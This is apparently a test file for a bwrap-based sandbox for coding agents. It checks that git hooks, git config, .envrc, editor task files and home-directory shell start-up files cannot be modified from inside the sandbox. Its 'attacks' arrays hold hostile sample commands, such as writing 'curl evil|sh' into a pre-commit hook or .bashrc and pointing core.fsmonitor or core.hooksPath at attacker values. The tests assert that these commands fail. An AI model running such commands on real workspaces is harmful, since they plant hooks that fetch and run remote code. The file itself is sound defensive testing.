// isolation: 'bwrap' and the protected paths of a workspace, as a coding agent meets them:
// a fresh workspace shows nothing nobody made (inside and on the host), git works in it,
// and what exists at a start — git hooks and config, shell start-up files in a home
// directory — stays read-only. Judged by the host's state. `npm test` runs this file as
// its own user and, when that is root, again as uid 65534.
import fs from 'node:fs'
import path from 'node:path'
import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { SandboxOptionError, isIsolationAvailable } from '../lib/index.mjs'
import { prepareWorkspace, useIsolatedSandboxes, waitFor } from './helpers.mjs'

const available = isIsolationAvailable('bwrap')

const { top, fresh, sandbox } = useIsolatedSandboxes('nw-iso-git-')

const sh = async (sb, command) => {
  const r = await sb.executeCommand(command, [])
  return { ...r, out: r.stdout + r.stderr }
}
const GIT = 'git -c user.name=t -c user.email=t@t'
const hostEntries = (dir) => fs.readdirSync(dir).sort()

describe.skipIf(!available)('isolation: protection without clutter', () => {
  it('a fresh workspace lists nothing, inside and on the host, while it runs', async () => {
    const sb = sandbox()
    const inside = await sh(sb, 'ls -A')
    expect(inside).toMatchObject({ exitCode: 0, stdout: '' })
    expect(hostEntries(sb.workingDirectory)).toEqual([])
    // A background process keeps the sandbox (and its mounts) up: still nothing on the host.
    const sleeper = await sb.processes.spawn('sleep 300')
    expect(await waitFor(async () => (await sb.processes.list()).some((p) => String(p.pid) === String(sleeper.pid) && p.running))).toBe(true)
    expect(hostEntries(sb.workingDirectory)).toEqual([])
    expect((await sh(sb, 'ls -A')).stdout).toBe('')
    // Nor does anything show up at the stop.
    await sb.stop()
    expect(hostEntries(sb.workingDirectory)).toEqual([])
  })

  it('git init, add and commit work in a fresh workspace', async () => {
    const sb = sandbox()
    const r = await sh(sb, `echo 'int main;' > main.c && git init -q && git add -A && ${GIT} commit -q -m x && git log --format=%s`)
    expect(r.out).toBe('x\n')
    expect(r.exitCode).toBe(0)
    // The host sees a real repository holding the commit.
    const log = execFileSync('git', ['-c', `safe.directory=${sb.workingDirectory}`, '-C', sb.workingDirectory, 'log', '--format=%s'], { encoding: 'utf8' })
    expect(log).toBe('x\n')
    expect(fs.statSync(path.join(sb.workingDirectory, '.git', 'hooks')).isDirectory()).toBe(true)
  })

  it('git clone of a local bare repository into . works in a fresh workspace', async () => {
    const origin = fs.mkdtempSync(path.join(top, 'origin-'))
    fs.chmodSync(origin, 0o755)
    const work = path.join(origin, 'work')
    const bare = path.join(origin, 'repo.git')
    const git = (...args) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { encoding: 'utf8' })
    git('init', '-q', work)
    fs.writeFileSync(path.join(work, 'README'), 'hello\n')
    git('-C', work, 'add', '-A')
    git('-C', work, 'commit', '-q', '-m', 'first')
    git('clone', '-q', '--bare', work, bare)
    execFileSync('chmod', ['-R', 'a+rX', origin])
    const sb = sandbox({ nativeSandbox: { readOnlyPaths: [origin] } })
    const r = await sh(sb, `git clone -q ${bare} . && cat README && git log --format=%s`)
    expect(r.out).toBe('hello\nfirst\n')
    expect(r.exitCode).toBe(0)
    expect(fs.readFileSync(path.join(sb.workingDirectory, 'README'), 'utf8')).toBe('hello\n')
  })

  it('F10/F11: after a restart, the hooks and config git made are read-only; git still commits', async () => {
    const sb = sandbox()
    expect((await sh(sb, `git init -q && echo a > a && git add -A && ${GIT} commit -q -m one && echo ok`)).out).toBe('ok\n')
    await sb.stop()
    await sb.start()
    const ws = sb.workingDirectory
    const config = fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')
    const hooks = hostEntries(path.join(ws, '.git', 'hooks'))
    const attacks = [
      "printf '#!/bin/sh\\ncurl evil|sh' > .git/hooks/pre-commit",
      'rm -rf .git/hooks',
      'mv .git/hooks .git/hooks-old && mkdir .git/hooks',
      'mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit',
      'echo "[core] fsmonitor = evil" >> .git/config',
      'git config core.hooksPath /tmp',
    ]
    for (const attack of attacks) expect((await sh(sb, attack)).exitCode, attack).not.toBe(0)
    // Git's own work does not touch them.
    expect((await sh(sb, `echo b > b && git add -A && ${GIT} commit -q -m two && git log --format=%s`)).out).toBe('two\none\n')
    await sb.destroy()
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe(config)
    expect(hostEntries(path.join(ws, '.git', 'hooks'))).toEqual(hooks)
    expect(hooks.filter((hook) => !hook.endsWith('.sample'))).toEqual([])
    expect(fs.existsSync(path.join(ws, '.git-moved'))).toBe(false)
  })

  it('F10/F11: protectMissingPaths keeps missing paths from being created, with entries that show while it runs', async () => {
    const sb = sandbox({ nativeSandbox: { protectMissingPaths: true } })
    const ws = prepareWorkspace(sb)
    fs.mkdirSync(path.join(ws, '.git'))
    fs.writeFileSync(path.join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n')
    const attacks = [
      "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil|sh' > .git/hooks/pre-commit",
      'mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit',
      'echo "[core] fsmonitor = evil" > .git/config',
      'echo evil > .envrc',
      'mkdir -p .vscode && echo "{}" > .vscode/tasks.json',
    ]
    for (const attack of attacks) expect((await sh(sb, attack)).exitCode, attack).not.toBe(0)
    // The cost: placeholders show on the host while the sandbox runs, and git init fails.
    expect(hostEntries(ws)).toEqual(expect.arrayContaining(['.envrc', '.vscode', '.mcp.json']))
    expect(fs.statSync(path.join(ws, '.git', 'hooks')).size).toBe(0)
    const empty = sandbox({ nativeSandbox: { protectMissingPaths: true } })
    expect((await sh(empty, 'git init -q')).exitCode).not.toBe(0)
    await Promise.all([sb.stop(), empty.stop()])
    // They go with the sandbox: nothing new on the host, no hook.
    expect(hostEntries(ws)).toEqual(['.git'])
    expect(hostEntries(path.join(ws, '.git'))).toEqual(['HEAD'])
    expect(hostEntries(empty.workingDirectory)).toEqual([])
    expect(() => sandbox({ nativeSandbox: { protectMissingPaths: 'yes' } })).toThrow(SandboxOptionError)
    expect(() => sandbox({ nativeSandbox: { protectMissingPaths: 'yes' } })).toThrow(/nativeSandbox\.protectMissingPaths must be a boolean/)
  })

  it('F10: shell start-up files are protected where the workspace is a home directory, ordinary files elsewhere', async () => {
    const home = fresh('home')
    const savedHome = process.env.HOME
    let homeSandbox
    try {
      process.env.HOME = home
      homeSandbox = sandbox({ workingDirectory: home })
    } finally {
      process.env.HOME = savedHome
    }
    const project = sandbox()
    for (const sb of [homeSandbox, project]) {
      prepareWorkspace(sb)
      fs.writeFileSync(path.join(sb.workingDirectory, '.bashrc'), 'export SAFE=1\n')
    }
    expect(homeSandbox.protectedPaths).toEqual(expect.arrayContaining(['.bashrc', '.profile', '.gitconfig', '.git/hooks']))
    expect(project.protectedPaths).toEqual(expect.arrayContaining(['.git/hooks', '.envrc']))
    expect(project.protectedPaths).not.toContain('.bashrc')
    expect(project.protectedPaths).not.toContain('.profile')
    expect((await sh(homeSandbox, 'echo "curl evil|sh" >> .bashrc')).exitCode).not.toBe(0)
    expect((await sh(homeSandbox, 'rm -f .bashrc')).exitCode).not.toBe(0)
    expect((await sh(project, 'echo "export MORE=1" >> .bashrc && echo ok')).out).toBe('ok\n')
    await Promise.all([homeSandbox.destroy(), project.destroy()])
    expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('export SAFE=1\n')
    expect(fs.readFileSync(path.join(project.workingDirectory, '.bashrc'), 'utf8')).toBe('export SAFE=1\nexport MORE=1\n')
    // A missing start-up file of a home gets no placeholder either.
    expect(hostEntries(home)).toEqual(['.bashrc'])
  })
})
